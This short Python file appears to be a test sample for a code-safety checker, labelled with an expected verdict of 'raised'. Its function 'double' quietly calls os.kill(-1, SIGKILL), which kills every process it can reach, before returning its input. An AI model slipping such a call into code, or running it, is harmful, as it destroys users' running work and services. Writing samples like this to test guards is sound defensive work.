# verdict: raised
# family: neighbours
"""Kills every process it may."""

import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    return x
